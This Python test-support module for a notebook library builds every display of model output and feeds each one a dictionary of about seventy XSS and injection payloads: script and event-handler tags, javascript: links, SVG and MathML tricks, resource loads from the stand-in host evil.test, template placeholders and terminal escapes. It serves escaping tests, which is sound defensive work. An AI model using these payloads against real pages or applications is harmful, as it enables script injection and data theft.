"""What a model, a page that it read, or a file name may hold, and every display that shows it.

A payload that gets anywhere calls ``pwned()`` or fetches something from ``evil.test``. The plain
tests read the HTML of these displays with a parser, the browser tests hand it to a real JupyterLab.
A new display takes its seat in :func:`displays`, and both look at it.
"""

# ruff: noqa: E501 (a payload is one line)
from __future__ import annotations

import datetime
from collections.abc import Iterator
from decimal import Decimal
from typing import Any

from llm_magic.bounds import bound
from llm_magic.chats import Chat, Turn
from llm_magic.doctor import Diagnosis, Difference, Nearest
from llm_magic.inventory import Entry
from llm_magic.notebook.cassette_commands import EntryView
from llm_magic.notebook.chat_commands import Transcript
from llm_magic.notebook.display import FORMATS, Answer, AnswerText
from llm_magic.notebook.frames import InertFrame
from llm_magic.notebook.side_by_side import Comparison
from llm_magic.notebook.tables import Table
from llm_magic.notebook.template_commands import Source
from llm_magic.notebook.verification import ReportView
from llm_magic.preview import Preview
from llm_magic.recordings import Recording
from llm_magic.types import Completion, Mode, Request, Usage
from llm_magic.verify import CellResult, Finding, Report
from llm_magic.worddiff import compare, visible

DAY = datetime.datetime(2026, 11, 20, 12, tzinfo=datetime.UTC)

PAYLOADS = {
    "script": "<script>pwned()</script>",
    "script from elsewhere": "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "module script": "<script type=module>import('https://evil.test/x.js')</script>",
    "image that fails": "<img src=x onerror=pwned()>",
    "image from elsewhere": "<img src='https://evil.test/beacon.png'>",
    "image set": "<img srcset='//evil.test/beacon.png 2x' src=data:,>",
    "image as data": '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>\'>',
    "svg": "<svg/onload=pwned()>",
    "svg with a script": "<svg><script>pwned()</script></svg>",
    "svg that animates": "<svg><a><animate attributeName=href values=javascript:pwned()/><text x=20 y=20>x</text></a></svg>",
    "svg that uses": "<svg><use href='https://evil.test/x.svg#a'/></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>",
    "math with a link": "<math><maction actiontype=statusline xlink:href='javascript:pwned()'>x</maction></math>",
    "frame": "<iframe src=javascript:parent.pwned()></iframe>",
    "frame with a page": "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "object": "<object data='data:text/html,<script>parent.pwned()</script>'></object>",
    "embed": "<embed src=https://evil.test/x.swf>",
    "style": "<style>@import 'https://evil.test/x.css'; body { display: none }</style>",
    "style attribute": "<div style='position:fixed;inset:0;background:url(//evil.test/x.png)'>x</div>",
    "style sheet": "<link rel=stylesheet href=https://evil.test/x.css>",
    "font": "<style>@font-face{font-family:x;src:url(https://evil.test/x.woff)}*{font-family:x}</style>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "base": "<base href=https://evil.test/>",
    "form": "<form action=https://evil.test/><input name=q autofocus onfocus=pwned()><button>Go</button></form>",
    "details": "<details open ontoggle=pwned()><summary>x</summary></details>",
    "video": "<video src=x onerror=pwned()><source onerror=pwned() src=y></video>",
    "audio": "<audio src=https://evil.test/x.mp3 autoplay></audio>",
    "marquee": "<marquee onstart=pwned()>x</marquee>",
    "body": "<body onload=pwned() onpageshow=pwned()>",
    "custom element": "<x onclick=pwned() tabindex=1 id=x>x</x><xss onfocus=pwned() autofocus tabindex=1>y</xss>",
    "template": "<template shadowrootmode=open><script>pwned()</script></template>",
    "command of Lab": "<button data-commandlinker-command='help:about' data-commandlinker-args='{}'>x</button>",
    "names that shadow": "<a id=jupyterapp name=jupyterapp>x</a><form id=jupyter-config-data></form>",
    "script link": "[x](javascript:pwned())",
    "disguised script link": "[x](java&#115;cript&colon;pwned())",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "link of HTML": "<a href='javascript:pwned()'>x</a>",
    "script in brackets": "<javascript:pwned()>",
    "image of Markdown": "![x](https://evil.test/beacon.png)",
    "attribute in a title": "[pwned()](https://ok.test \"' onmouseover='pwned()'\")",
    "attribute in a fence": "```py\" onmouseover=pwned() x=\"\nx = '</code></pre><script>pwned()</script>'\n```",
    "closing tags": "</pre></code></td></table></div></div><script>pwned()</script>",
    "closing title": "</title></textarea></style></script><img src=x onerror=pwned()>",
    "comment": "<!-- --!><script>pwned()</script> -->",
    "CDATA": "<![CDATA[<script>pwned()</script>]]>",
    "escaped": "&lt;script&gt;pwned()&lt;/script&gt; &#60;script&#62;pwned()&#60;/script&#62;",
    "other brackets": "\uff1cscript\uff1epwned()\uff1c/script\uff1e \u2039img src=x onerror=pwned()\u203a",
    "quotes": "\"'`><img src=x onerror=pwned()>",
    "placeholder": "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('pwned()')()}}",
    "format": "{0.__class__} %(x)s %s {x!r}",
    "formula with a link": "$\\href{javascript:pwned()}{x}$ and \\(\\href{https://evil.test}{y}\\)",
    "formula with a style": "$$\\style{background:url(https://evil.test/x.png)}{x}$$",
    "formula that loads": "$\\require{html}\\unicode[https://evil.test]{x41}$ \\[\\includegraphics{https://evil.test/x.png}\\]",
    "formula of markup": "$<img src=x onerror=pwned()>$ and \\(</span><script>pwned()</script>\\)",
    "formula that redefines": "$\\def\\frac#1#2{\\href{javascript:pwned()}{#1}}\\gdef\\x{}$",
    "two prices": "between $5 and $6, \\begin{align}x\\end{align} \\ref{x}",
    "progress bar": "\r 99%|\u2588\u2588\u2588\u2588| 99/100 [00:01<00:00, \u001b[31m<b onmouseover=pwned()>\u001b[0m\u001b[A\u001b[2K",
    "terminal": "\u001b]8;;https://evil.test\u0007x\u001b]8;;\u0007 \u001b]0;title\u0007\u001b[2J\u001b[H \u009b31m",
    "directions": "abc \u202e)(denwp\u202c \u2066x\u2069 \u200f<b>\u200b</b>",
    "null bytes": "<scr\u0000ipt>pwned()</scr\u0000ipt>\u0000",
    "halves of a character": "\ud800<script>pwned()</script>\udfff",
    "nesting": "> " * 60 + "<script>pwned()</script>",
    "lists in lists": "".join(
        f"{'  ' * level}- <img src=x onerror=pwned()>\n" for level in range(40)
    ),
    "many tags": "<b>" * 300 + "<script>pwned()</script>",
    "table": "|<script>pwned()</script>|\n|:-:|\n|<img src=x onerror=pwned()>|",
    "front matter": "---\ntitle: <script>pwned()</script>\n---\n:::{raw} html\n<script>pwned()</script>\n:::",
}


def displays(text: str) -> Iterator[tuple[str, Any]]:
    """Everything that a notebook may show, with the text wherever another one could stand."""
    answer = completion(text)
    for format in FORMATS:
        if format != "none":
            yield format, Answer(text, format=format, completion=answer)
    yield "choices", Answer(text, completion=completion(text, text))
    yield "so far", Answer(text, done=False)
    yield "incomplete", Answer(text, error=text)
    yield "value", AnswerText(text, answer)
    yield "table", Table([text], [[text]], text)
    yield "frame", InertFrame({text: [text]}, index=[text])
    yield "recording", EntryView([entry(text)])
    yield "miss", diagnosis(text)
    yield "report", ReportView(report(text))
    outcomes = [answer, completion(text, text), text, ValueError(text), None]
    yield "side by side", Comparison([text] * len(outcomes), outcomes)
    said = {"role": "user", "content": text}
    yield "chat", Transcript(Chat(text, (Turn(said, said, text, system=text),)))
    yield "template", Source(text)
    yield "dry run", preview(text)


def preview(text: str) -> Preview:
    """What would be asked, of a model of that name, with nothing but the text."""
    request = Request(text, text, [{"role": text, "content": text}], {text: text})
    unknown = dict.fromkeys(("least", "most", "most_under_budget", "limit"))
    return Preview(
        "live",
        Mode.FALLBACK,
        request,
        "ab" * 32,
        0,
        None,
        1,
        bound(request),
        **unknown,
        notes=(text,),
    )


def html_of(shown: Any) -> str:
    """The HTML that a notebook shows of an object."""
    bundle = getattr(shown, "_repr_mimebundle_", None)
    html: str = shown._repr_html_() if bundle is None else bundle()["text/html"]
    return html


def completion(*texts: str) -> Completion:
    """An answer in which the model says nothing else: text, thoughts, calls and names."""
    calls = [{"function": {"name": texts[0], "arguments": texts[0]}}]
    choices = [
        {"message": {"content": text, "reasoning_content": text, "tool_calls": calls}}
        for text in texts
    ]
    return Completion(
        {"choices": choices},
        reference=texts[0],
        provider=texts[0],
        notes=[texts[0]],
        cost=Decimal(1),
        tokens=Usage(output_tokens=1),
        source="live",
        key="ab" * 32,
    )


def entry(text: str) -> Entry:
    """A recording as it stands in a cassette that somebody else wrote."""
    request = {
        "provider": text,
        "model": text,
        "messages": [{"role": text, "content": text}],
        "parameters": {text: text},
        "endpoint": text,
    }
    recording = Recording(
        "ab" * 32, 0, request, completion(text), "call", DAY, 1.0, cell={"line": text, "id": text}
    )
    return Entry("ab" * 32, 0, recording.to_line(), saved=True, notebook=text)


def diagnosis(text: str) -> Diagnosis:
    """A miss, with a recording that is nothing but the text."""
    seen = visible(text)  # as `diagnose` hands it over
    return Diagnosis(
        seen,
        Nearest("ab" * 32, 0, DAY.date(), seen, this_cell=False),
        differences=(Difference(seen, seen, seen),),
        system=compare(text, ""),
        messages=compare(f"{text} and the other", f"{text} or the one"),
        remedy=seen,
    )


def report(text: str) -> Report:
    """What verifying a notebook of that name found, in a cell with that line."""
    cell = CellResult(1, text, text, "miss")
    return Report(text, [cell], [Finding(text, text, 1, text), Finding(text, text, None, text)])
